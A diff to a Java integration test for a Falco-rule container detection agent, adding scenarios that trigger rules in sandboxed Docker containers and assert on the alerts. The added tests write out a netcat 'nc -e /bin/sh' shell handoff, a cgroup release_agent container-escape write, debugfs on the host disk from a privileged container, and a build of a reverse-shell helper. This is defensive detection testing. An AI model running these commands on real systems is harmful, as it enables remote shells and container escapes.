@@ -30,7 +30,7 @@ import org.junit.jupiter.api.TestMethodOrder;
  * The agent with the stable Falco rules (plus the incubating file, for "Launch Privileged Container", which upstream
  * ships only there) against real Docker containers on a private engine (the containers module's harness: one
  * dockerd for the class, a busybox-static image with a static AF_PACKET helper added). Each scenario must raise its
- * rule within 2 s with every container.* and k8s.* field right in output_fields (appended as Falco's
+ * rule with every container.* and k8s.* field right in output_fields (appended as Falco's
  * append_output does), on the container's first process where the rule allows it. No warm-up container: the very
  * first container after the agent started must already be described (its early events wait for Docker's answer,
  * container_engines.docker.metadata_wait_ms).
@@ -57,6 +57,11 @@ class AgentContainerTest {
         copyResource(Agent.BUNDLED_RULES, stable);
         copyResource("/rules/falco-incubating_rules.yaml", incubating);
         alerts = dir.resolve("alerts.json");
+        // the API server's name, for "Contact K8S API Server From Container": the agent resolves the names in
+        // conditions at start (and every 10 s); a marked line, removed at the end
+        String hosts = Files.readString(HOSTS);
+        Files.writeString(HOSTS, (hosts.isEmpty() || hosts.endsWith("\n") ? "" : "\n") + API_SERVER_IP
+                + " kubernetes.default.svc.cluster.local # " + MARK + "\n", java.nio.file.StandardOpenOption.APPEND);
         AgentConfig cfg = AlertFile.agentWritingTo(alerts)
                 .override("rule_matching=all")
                 .override("rules_files=[" + stable + ", " + incubating + "]")
@@ -69,8 +74,15 @@ class AgentContainerTest {
         assertThat(agent.sensor().containers().stats().streamConnects()).as("event stream connected").isEqualTo(1);
     }
 
+    static final Path HOSTS = Path.of("/etc/hosts");
+    static final String API_SERVER_IP = "203.0.113.77";
+
     @AfterAll
     void stop() throws Exception {
+        if (Files.readString(HOSTS).contains(MARK)) {
+            List<String> kept = Files.readAllLines(HOSTS).stream().filter(l -> !l.contains(MARK)).toList();
+            Files.writeString(HOSTS, String.join("\n", kept) + "\n");
+        }
         try {
             if (agent != null) agent.close();
         } finally {
@@ -92,13 +104,26 @@ class AgentContainerTest {
         Files.createDirectories(rootfs.resolve("bin"));
         Files.createDirectories(rootfs.resolve("tmp"));
         Files.copy(Path.of("/bin/busybox"), rootfs.resolve("bin/busybox"));
-        for (String c : new String[] {"sh", "sleep", "cat", "echo", "true"}) {
+        for (String c : new String[] {"sh", "sleep", "cat", "echo", "true", "nc", "mkdir", "mount"}) {
             Files.createSymbolicLink(rootfs.resolve("bin").resolve(c), Path.of("busybox"));
         }
         sh("gcc -static -O1 -o " + rootfs.resolve("bin/pktsniff") + " src/test/c/packet_socket.c");
         sh("gcc -static -O1 -o " + rootfs.resolve("bin/revshell") + " src/test/c/reverse_shell.c");
         sh("gcc -static -O1 -o " + rootfs.resolve("bin/modload") + " src/test/c/module_load.c");
+        copyWithLibraries(Path.of("/usr/sbin/debugfs"), rootfs, "bin/debugfs"); // e2fsprogs' (dynamic: its libraries too)
         sh("tar -C " + rootfs + " -c . | " + docker.cli() + " import - " + IMAGE);
+    }
+
+    /** A dynamic binary into the image at {@code as}, with the libraries ldd names at their own paths. */
+    private static void copyWithLibraries(Path binary, Path rootfs, String as) throws Exception {
+        Files.copy(binary, rootfs.resolve(as));
+        for (String line : sh("ldd " + binary).lines().toList()) {
+            java.util.regex.Matcher m = java.util.regex.Pattern.compile("(/\\S+) \\(0x").matcher(line);
+            if (!m.find()) continue;
+            Path lib = Path.of(m.group(1)), to = rootfs.resolve(lib.toString().substring(1));
+            Files.createDirectories(to.getParent());
+            if (!Files.exists(to)) Files.copy(lib, to);
+        }
     }
 
     private static String sh(String command) throws Exception {
@@ -138,10 +163,12 @@ class AgentContainerTest {
         else assertThat(text(f, "k8s.ns.name")).isEqualTo(ns);
     }
 
+    /** docker run -d: the container's id (the CLI's output also carries its stderr, e.g. a "context canceled" line under load). */
     String run(String... args) throws Exception {
         List<String> a = new ArrayList<>(List.of("run", "-d", "--network", "none"));
         a.addAll(List.of(args));
-        return docker.docker(a.toArray(String[]::new));
+        String out = docker.docker(a.toArray(String[]::new));
+        return out.lines().filter(l -> l.matches("[0-9a-f]{64}")).findFirst().orElse(out);
     }
 
     @Test
@@ -340,5 +367,114 @@ class AgentContainerTest {
         assertThat(text(f, "proc.name")).isEqualTo("modload");
         assertThat(text(f, "evt.type")).isIn("init_module", "finit_module");
         if (out.contains("init_module -1 38")) assertThat(a.path("output").asText()).contains("res=ENOSYS");
+    }
+
+    @Test
+    @Order(10)
+    void netcatRunsAShellForWhoeverConnects() throws Exception {
+        // the attacker's listener in the container, and nc -e handing it a shell (run by docker exec: busybox's sh
+        // would run its own nc applet without an exec): the listener sends a command, the shell's answer comes back
+        String name = MARK + "-nc";
+        String id = run("--name", name, IMAGE, "sh", "-c", "(echo echo reply-" + MARK + "; sleep 3) | nc -l -p 4445; sleep 300");
+        String logs = "";
+        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
+        while (!logs.contains("reply-" + MARK) && System.nanoTime() < deadline) {
+            try {
+                docker.docker("exec", name, "/bin/nc", "127.0.0.1", "4445", "-e", "/bin/sh"); // busybox: -e PROG last
+            } catch (AssertionError refused) {
+                Thread.sleep(100); // the listener is not up yet
+            }
+            logs = docker.docker("logs", name);
+        }
+        assertThat(logs).as("the shell answered through the socket").contains("reply-" + MARK);
+        String rule = "Netcat Remote Code Execution in Container";
+        JsonNode a = await(rule, f -> text(f, "container.name").equals(name));
+        JsonNode f = a.path("output_fields");
+        assertContainer(f, id, name, false, null, null);
+        assertThat(text(f, "proc.name")).isEqualTo("nc");
+        assertThat(text(f, "proc.cmdline")).isEqualTo("nc 127.0.0.1 4445 -e /bin/sh");
+        // only nc -e is the rule's (a retry before the listener was up is one too), not the listener
+        assertThat(alerts()).filteredOn(x -> x.path("rule").asText().equals(rule)
+                && text(x.path("output_fields"), "container.name").equals(name))
+                .allMatch(x -> text(x.path("output_fields"), "proc.cmdline").contains(" -e "));
+    }
+
+    @Test
+    @Order(11)
+    void releaseAgentWriteFromAPrivilegedContainer() throws Exception {
+        // the cgroup v1 escape: mount a hierarchy, write its release_agent (here the v1 mount may be refused on a
+        // v2-only host; the write is made either way, as an exploit script does); the same from an unprivileged
+        // container lacks CAP_SYS_ADMIN and must raise nothing
+        String rule = "Detect release_agent File Container Escapes";
+        String script = "mkdir -p /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg; echo /x > /tmp/cg/release_agent; echo done-" + MARK
+                + "; sleep 300";
+        String plain = MARK + "-ra-plain";
+        run("--name", plain, IMAGE, "sh", "-c", script);
+        String logs = "";
+        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
+        while (!logs.contains("done-" + MARK) && System.nanoTime() < deadline) {
+            logs = docker.docker("logs", plain);
+            Thread.sleep(20);
+        }
+        assertThat(logs).as("the unprivileged write was made").contains("done-" + MARK);
+        String name = MARK + "-ra";
+        String id = run("--privileged", "--name", name, IMAGE, "sh", "-c", script);
+        JsonNode a = await(rule, f -> text(f, "container.name").equals(name));
+        JsonNode f = a.path("output_fields");
+        assertContainer(f, id, name, true, null, null);
+        assertThat(text(f, "fd.name")).isEqualTo("/tmp/cg/release_agent");
+        assertThat(text(f, "thread.cap_effective")).contains("CAP_SYS_ADMIN");
+        // the privileged write came after the plain one (ring order): the plain one was judged, and raised nothing
+        assertThat(alerts()).noneMatch(x -> x.path("rule").asText().equals(rule)
+                && text(x.path("output_fields"), "container.name").equals(plain));
+    }
+
+    @Test
+    @Order(12)
+    void debugfsOnTheHostDiskFromAPrivilegedContainer() throws Exception {
+        // a privileged container sees the host's block devices: debugfs reads the host's file system (read-only
+        // here); the same command in an unprivileged container (no such device) is not the rule's
+        String rule = "Debugfs Launched in Privileged Container";
+        String disk = Files.exists(Path.of("/dev/vda")) ? "/dev/vda" : Files.exists(Path.of("/dev/sda")) ? "/dev/sda" : "/dev/null";
+        String plain = MARK + "-dbg-plain";
+        run("--name", plain, IMAGE, "sh", "-c", "/bin/debugfs -R stats " + disk + "; echo done-" + MARK + "; sleep 300");
+        String logs = "";
+        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
+        while (!logs.contains("done-" + MARK) && System.nanoTime() < deadline) {
+            logs = docker.docker("logs", plain);
+            Thread.sleep(20);
+        }
+        assertThat(logs).as("debugfs ran in the unprivileged container").contains("done-" + MARK).contains("debugfs");
+        String name = MARK + "-dbg";
+        String id = run("--privileged", "--name", name, IMAGE, "sh", "-c", "/bin/debugfs -R stats " + disk + "; sleep 300");
+        JsonNode a = await(rule, f -> text(f, "container.name").equals(name));
+        JsonNode f = a.path("output_fields");
+        assertContainer(f, id, name, true, null, null);
+        assertThat(text(f, "proc.cmdline")).isEqualTo("debugfs -R stats " + disk);
+        assertThat(alerts()).noneMatch(x -> x.path("rule").asText().equals(rule)
+                && text(x.path("output_fields"), "container.name").equals(plain));
+    }
+
+    @Test
+    @Order(13)
+    void contactTheApiServerFromAContainer() throws Exception {
+        // the container's own network namespace holds the API server's address (on lo, with NET_ADMIN), so the
+        // connect succeeds without leaving it; a connect to another address there is not the rule's
+        String rule = "Contact K8S API Server From Container";
+        String name = MARK + "-api";
+        String id = run("--cap-add", "NET_ADMIN", "--name", name, IMAGE, "sh", "-c",
+                "/bin/busybox ip addr add " + API_SERVER_IP + "/32 dev lo; /bin/busybox ip addr add 203.0.113.78/32 dev lo; "
+                + "nc -l -p 443 & nc -l -p 8443 & sleep 0.5; nc 203.0.113.78 8443 </dev/null; echo other-" + MARK
+                + "; nc " + API_SERVER_IP + " 443 </dev/null; echo done-" + MARK + "; sleep 300");
+        JsonNode a = await(rule, f -> text(f, "container.name").equals(name));
+        JsonNode f = a.path("output_fields");
+        assertContainer(f, id, name, false, null, null);
+        assertThat(text(f, "fd.rport")).isEqualTo("443");
+        assertThat(text(f, "fd.type")).isEqualTo("ipv4");
+        assertThat(a.path("output").asText()).contains("->" + API_SERVER_IP + ":443");
+        assertThat(docker.docker("logs", name)).contains("other-" + MARK);
+        assertThat(alerts()).filteredOn(x -> x.path("rule").asText().equals(rule)
+                && text(x.path("output_fields"), "container.name").equals(name))
+                .allMatch(x -> text(x.path("output_fields"), "fd.rport").equals("443"));
     }
 }
